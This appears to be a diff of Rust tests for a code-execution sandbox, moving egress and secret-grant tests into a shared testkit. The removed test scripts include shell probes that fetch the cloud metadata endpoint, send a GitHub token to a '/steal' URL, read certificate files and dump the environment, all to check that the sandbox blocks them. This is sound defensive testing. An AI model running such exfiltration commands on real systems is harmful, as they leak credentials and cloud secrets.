@@ -18,6 +18,7 @@ use cordon_core::{
     Backend, Command, Error, ExecOutcome, ExecRequest, Language, OutputStream, SandboxSpec,
     Termination, Tier, TierStatus,
 };
+use cordon_egress::testkit::Upstream;
 
 fn init_path() -> PathBuf {
     PathBuf::from(env!("CARGO_BIN_EXE_cordon-sandbox-init"))
@@ -561,7 +562,23 @@ fn infinite_loop_times_out_and_daemons_die_too() {
         .find(|p| p.exists())
         .unwrap();
     let left = std::fs::read_to_string(&procs).unwrap();
-    assert_eq!(left.lines().count(), 2, "leftover processes: {left}");
+    // The sandbox's own processes (outer init, agent, the next exec's standby reaper) are all
+    // the init binary; no `bash`, `sleep` or `nohup` of the exec may remain.
+    let comms: Vec<String> = left
+        .lines()
+        .map(|pid| {
+            std::fs::read_to_string(format!("/proc/{pid}/comm"))
+                .unwrap_or_default()
+                .trim()
+                .to_string()
+        })
+        .collect();
+    assert!(
+        !comms.is_empty()
+            && comms.len() <= 3
+            && comms.iter().all(|c| c.starts_with("cordon-sandbox")),
+        "leftover processes of the exec: {comms:?}"
+    );
     // And the sandbox still works after a timeout.
     let o = sb
         .exec(
@@ -746,43 +763,6 @@ fn refuses_when_a_wall_is_missing_unless_allowed() {
 
 // ---------------------------------------------------------------- egress
 
-/// A real HTTP/1.1 upstream on the host's loopback: answers every request with a fixed body
-/// and records each request head it saw.
-struct Upstream {
-    port: u16,
-    seen: std::sync::Arc<std::sync::Mutex<Vec<String>>>,
-}
-
-fn upstream() -> Upstream {
-    use std::io::{BufRead, BufReader};
-    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
-    let port = listener.local_addr().unwrap().port();
-    let seen = std::sync::Arc::new(std::sync::Mutex::new(Vec::new()));
-    let log = seen.clone();
-    std::thread::spawn(move || {
-        for conn in listener.incoming().take(64) {
-            let Ok(mut conn) = conn else { continue };
-            let mut head = String::new();
-            let mut reader = BufReader::new(conn.try_clone().unwrap());
-            loop {
-                let mut line = String::new();
-                if reader.read_line(&mut line).unwrap_or(0) == 0 || line == "\r\n" {
-                    break;
-                }
-                head.push_str(&line);
-            }
-            log.lock().unwrap().push(head);
-            let body = "hello-from-upstream";
-            let _ = write!(
-                conn,
-                "HTTP/1.1 200 OK\r\nContent-Length: {}\r\nConnection: close\r\n\r\n{body}",
-                body.len()
-            );
-        }
-    });
-    Upstream { port, seen }
-}
-
 fn egress_spec(allow: &[String]) -> SandboxSpec {
     let mut s = spec();
     s.egress.allow = allow.to_vec();
@@ -792,46 +772,13 @@ fn egress_spec(allow: &[String]) -> SandboxSpec {
 #[test]
 fn egress_allows_listed_hosts_and_refuses_the_rest() {
     let b = need_backend!();
-    let up = upstream();
-    let p = up.port;
-    // Loopback is a non-public range: only an explicit CIDR entry opens it.
-    let s = egress_spec(&[format!("127.0.0.1/32:{p}")]);
-    let script = format!(
-        "curl -s --max-time 5 http://127.0.0.1:{p}/curl; echo;
-         python3 -c \"import urllib.request; print(urllib.request.urlopen('http://127.0.0.1:{p}/py', timeout=5).read().decode())\";
-         curl -s --max-time 5 -o /dev/null -w 'other-port %{{http_code}}\\n' http://127.0.0.1:{q}/;
-         curl -s --max-time 5 -o /dev/null -w 'metadata %{{http_code}}\\n' http://169.254.169.254/latest/meta-data/;
-         curl -s --max-time 5 -o /dev/null -w 'loopback-alias %{{http_code}}\\n' http://127.0.0.2:{p}/;
-         curl -s --max-time 5 -D - -o /dev/null http://169.254.169.254/ | head -1",
-        q = p.wrapping_add(1)
-    );
-    let o = run_in(b, &s, &ExecRequest::code(Language::Bash, script));
-    let out = text(&o.stdout);
-    assert!(
-        out.starts_with("hello-from-upstream\nhello-from-upstream\n"),
-        "{out}\n{}",
-        text(&o.stderr)
-    );
-    for line in ["other-port 403", "metadata 403", "loopback-alias 403"] {
-        assert!(out.contains(line), "missing {line:?}: {out}");
-    }
-    let seen = up.seen.lock().unwrap().clone();
-    assert_eq!(seen.len(), 2, "the upstream saw {seen:?}");
-    assert!(seen[0].starts_with("GET /curl ") && seen[1].starts_with("GET /py "));
-    let egress = o
-        .extra
-        .get("egress")
-        .and_then(|e| e.as_array())
-        .cloned()
-        .unwrap_or_default();
-    let denies = egress.iter().filter(|e| e["decision"] == "deny").count();
-    assert!(denies >= 3, "denials not audited: {egress:?}");
+    cordon_egress::testkit::allowed_hosts_only(b, spec());
 }
 
 #[test]
 fn without_an_allow_list_nothing_is_reachable_and_direct_sockets_fail() {
     let b = need_backend!();
-    let up = upstream();
+    let up = Upstream::start();
     let p = up.port;
     // Closed sandbox: no proxy variables, no route.
     let o = sh(
@@ -860,87 +807,13 @@ fn without_an_allow_list_nothing_is_reachable_and_direct_sockets_fail() {
         "{}",
         text(&o.stdout)
     );
-    assert_eq!(up.seen.lock().unwrap().len(), 0);
+    assert_eq!(up.requests().len(), 0);
 }
 
 #[test]
 fn grant_placeholder_is_not_the_secret_and_cannot_leave_for_other_hosts() {
     let b = need_backend!();
-    let up = upstream();
-    let p = up.port;
-    let secret = format!("ghp_{}", "Zq9".repeat(12));
-    let dir = std::env::temp_dir().join(format!("cordon-grant-{}", std::process::id()));
-    std::fs::create_dir_all(&dir).unwrap();
-    let secret_file = dir.join("token");
-    std::fs::write(&secret_file, &secret).unwrap();
-    let mut s = egress_spec(&[format!("127.0.0.1/32:{p}")]);
-    s.grants.push(cordon_core::Grant {
-        name: "github".into(),
-        env_var: "GITHUB_TOKEN".into(),
-        secret: cordon_core::GrantSecret::File(secret_file.display().to_string()),
-        hosts: vec!["api.github.com".into()],
-        header: "authorization".into(),
-        methods: vec![],
-        path_prefixes: vec![],
-    });
-    let mut sb = b.create(&s).unwrap();
-    let o = sb
-        .exec(
-            &ExecRequest::code(
-                Language::Bash,
-                format!(
-                    "echo \"token=$GITHUB_TOKEN\"; cat /etc/cordon/*.pem | head -1;
-                     curl -s --max-time 5 -o /dev/null -w 'exfil %{{http_code}}\\n' -H \"Authorization: Bearer $GITHUB_TOKEN\" http://127.0.0.1:{p}/steal;
-                     env; ls -la /work /tmp /etc /etc/cordon"
-                ),
-            ),
-            &mut |_: OutputStream, _: &[u8]| {},
-        )
-        .unwrap();
-    let out = text(&o.stdout);
-    assert!(
-        !out.contains(&secret),
-        "the real secret reached the sandbox"
-    );
-    let ph = out
-        .lines()
-        .next()
-        .unwrap()
-        .trim_start_matches("token=")
-        .to_string();
-    assert!(ph.len() >= 16 && ph != secret, "no placeholder: {out}");
-    assert!(out.contains("exfil 403"), "{out}");
-    assert!(
-        up.seen.lock().unwrap().is_empty(),
-        "the placeholder reached a non-granted host"
-    );
-    let egress = o
-        .extra
-        .get("egress")
-        .and_then(|e| e.as_array())
-        .cloned()
-        .unwrap_or_default();
-    assert!(
-        egress.iter().any(|e| e["decision"] == "exfiltration"),
-        "{egress:?}"
-    );
-    // Files taken out are scanned too: a planted credential is flagged.
-    sb.put_file(
-        "key.pem",
-        b"-----BEGIN RSA PRIVATE KEY-----\nMIIB\n-----END RSA PRIVATE KEY-----\n",
-        0o600,
-    )
-    .unwrap();
-    let _ = sb.get_file("key.pem", 4096).unwrap();
-    let report = sb.report();
-    assert!(
-        report
-            .get("findings")
-            .is_some_and(|f| f.as_array().is_some_and(|a| !a.is_empty())),
-        "{report:?}"
-    );
-    sb.destroy().unwrap();
-    std::fs::remove_dir_all(&dir).unwrap();
+    cordon_egress::testkit::grant_placeholder_stays_inside(b, spec());
 }
 
 /// A server makes sandboxes on worker threads that come and go (tokio retires idle blocking
